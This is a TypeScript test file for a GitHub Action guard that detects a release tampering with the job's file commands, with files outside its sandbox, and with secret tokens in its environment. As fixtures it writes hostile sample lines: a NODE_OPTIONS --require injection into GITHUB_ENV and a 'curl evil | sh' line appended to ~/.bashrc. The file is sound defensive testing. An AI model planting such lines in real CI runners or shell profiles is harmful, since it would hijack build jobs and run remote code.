import assert from 'node:assert/strict'
import { execFileSync } from 'node:child_process'
import { appendFileSync, mkdirSync, mkdtempSync, readFileSync, rmSync, utimesSync, writeFileSync } from 'node:fs'
import os from 'node:os'
import path from 'node:path'
import { after, describe, it } from 'node:test'
import { engineEnv, RUN_MARKER } from '../../src/host/env.js'
import { FileCommandGuard } from '../../src/host/file-commands.js'
import { outsideWatch } from '../../src/host/outside.js'

const dir = mkdtempSync(path.join(os.tmpdir(), 'outside-test-'))
after(() => rmSync(dir, { recursive: true, force: true }))

function commandFiles(name: string): Record<'GITHUB_ENV' | 'GITHUB_OUTPUT' | 'GITHUB_STATE', string> {
  const at = path.join(dir, name)
  mkdirSync(at)
  const files = { GITHUB_ENV: path.join(at, 'set_env'), GITHUB_OUTPUT: path.join(at, 'set_output'), GITHUB_STATE: path.join(at, 'save_state') }
  for (const file of Object.values(files)) writeFileSync(file, '')
  return files
}

describe("the job's file commands", () => {
  it("keeps the action's own lines and takes out, naming them, those the release added", () => {
    const files = commandFiles('a')
    writeFileSync(files.GITHUB_STATE, 'from-the-runner=1\n')
    const guard = new FileCommandGuard(files)
    guard.write('GITHUB_OUTPUT', 'result', 'passed')
    const own = readFileSync(files.GITHUB_OUTPUT, 'utf8')
    assert.match(own, /^result<<ghadelimiter_[0-9a-f-]{36}\npassed\nghadelimiter_[0-9a-f-]{36}\n$/)
    assert.equal(guard.check(), undefined)

    appendFileSync(files.GITHUB_ENV, 'NODE_OPTIONS=--require=/tmp/evil.js\nX=1\n')
    appendFileSync(files.GITHUB_OUTPUT, 'result=passed\n')
    assert.equal(
      guard.check(),
      "the release wrote to GITHUB_ENV: NODE_OPTIONS=--require=/tmp/evil.js (and 1 more line); the release wrote to GITHUB_OUTPUT: result=passed (restored to what the action wrote: nothing of it reaches the job's next steps)"
    )
    assert.equal(readFileSync(files.GITHUB_ENV, 'utf8'), '')
    assert.equal(readFileSync(files.GITHUB_OUTPUT, 'utf8'), own)
    assert.equal(readFileSync(files.GITHUB_STATE, 'utf8'), 'from-the-runner=1\n', "what was there before is the runner's and stays")
    assert.equal(guard.check(), undefined, 'each breach is named once')
  })

  it('a line slipped in before one of the action is taken out when the action writes, and named at the next check', () => {
    const files = commandFiles('b')
    const guard = new FileCommandGuard(files)
    appendFileSync(files.GITHUB_STATE, 'sandbox=/elsewhere\n')
    guard.write('GITHUB_STATE', 'sandbox', '/tmp/ktx-smoke-x')
    assert.doesNotMatch(readFileSync(files.GITHUB_STATE, 'utf8'), /elsewhere/)
    assert.match(guard.check() ?? '', /^the release wrote to GITHUB_STATE: sandbox=\/elsewhere/)
    writeFileSync(files.GITHUB_STATE, 'all gone')
    assert.match(guard.check() ?? '', /^the release changed GITHUB_STATE \(8 bytes where the action wrote \d+\)/)
  })
})

describe('what lies outside the sandbox', () => {
  const git = (cwd: string, ...args: string[]): void => {
    execFileSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@example.com', ...args], { cwd, stdio: 'ignore' })
  }

  it('names the first paths that changed in the checkout, the actions and HOME; the sandbox and untouched files are not named', async () => {
    const checkout = path.join(dir, 'work', 'repo', 'repo')
    const actions = path.join(dir, 'work', '_actions')
    const home = path.join(dir, 'home')
    const temp = path.join(checkout, 'tmp-inside')
    for (const d of [checkout, path.join(actions, 'actions', 'cache', 'v4'), path.join(home, '.config', 'gh'), temp]) mkdirSync(d, { recursive: true })
    writeFileSync(path.join(checkout, 'a.txt'), 'a\n')
    writeFileSync(path.join(checkout, '.gitignore'), 'tmp-inside/\n')
    git(checkout, 'init', '-q')
    git(checkout, 'add', '.')
    git(checkout, 'commit', '-q', '-m', 'x')
    writeFileSync(path.join(actions, 'actions', 'cache', 'v4', 'index.js'), 'ok\n')
    writeFileSync(path.join(home, '.bashrc'), '# rc\n')
    writeFileSync(path.join(home, '.config', 'gh', 'hosts.yml'), 'x\n')
    writeFileSync(path.join(home, 'notes.txt'), 'not a dotfile\n')

    const watch = outsideWatch({ workspace: checkout, actionsDir: actions, home, ignore: [temp] })
    assert.equal(await watch.check(), undefined)
    writeFileSync(path.join(temp, 'scratch'), 'the run may write here\n')
    writeFileSync(path.join(home, 'notes.txt'), 'changed, but no dotfile\n')
    assert.equal(await watch.check(), undefined)

    appendFileSync(path.join(checkout, 'a.txt'), 'pwned\n')
    writeFileSync(path.join(checkout, 'new.js'), 'x\n')
    appendFileSync(path.join(actions, 'actions', 'cache', 'v4', 'index.js'), 'evil\n')
    appendFileSync(path.join(home, '.bashrc'), 'curl evil | sh\n')
    // Same size, new mtime: still a change.
    utimesSync(path.join(home, '.config', 'gh', 'hosts.yml'), new Date(), new Date(Date.now() + 5000))
    assert.equal(
      await watch.check(),
      `the release changed files outside its sandbox, in the checkout: ${checkout}/a.txt, ${checkout}/new.js; in the job's actions: ${actions}/actions/cache/v4/index.js; in the runner user's HOME: ~/.bashrc, ~/.config/gh/hosts.yml`
    )
    assert.equal(await watch.check(), undefined, 'each change is named once')
    watch.close()
  })
})

describe("the environment of a front end that dropped the shell's", () => {
  it('holds the sealed set, what env-passthrough names and what it keeps; no token, no input, no marker', () => {
    const env = engineEnv(
      {
        PATH: '/bin',
        HOME: '/h',
        ACTIONS_RUNTIME_TOKEN: 't',
        INPUT_TARBALL: 'x.tgz',
        GITHUB_OUTPUT: '/o',
        RUNNER_TEMP: '/r',
        NODE_AUTH_TOKEN: 'n',
        [RUN_MARKER]: 'x'
      },
      ['NODE_AUTH_TOKEN'],
      ['RUNNER_TEMP']
    )
    assert.deepEqual(env, { PATH: '/bin', HOME: '/h', NODE_AUTH_TOKEN: 'n', RUNNER_TEMP: '/r' })
  })
})
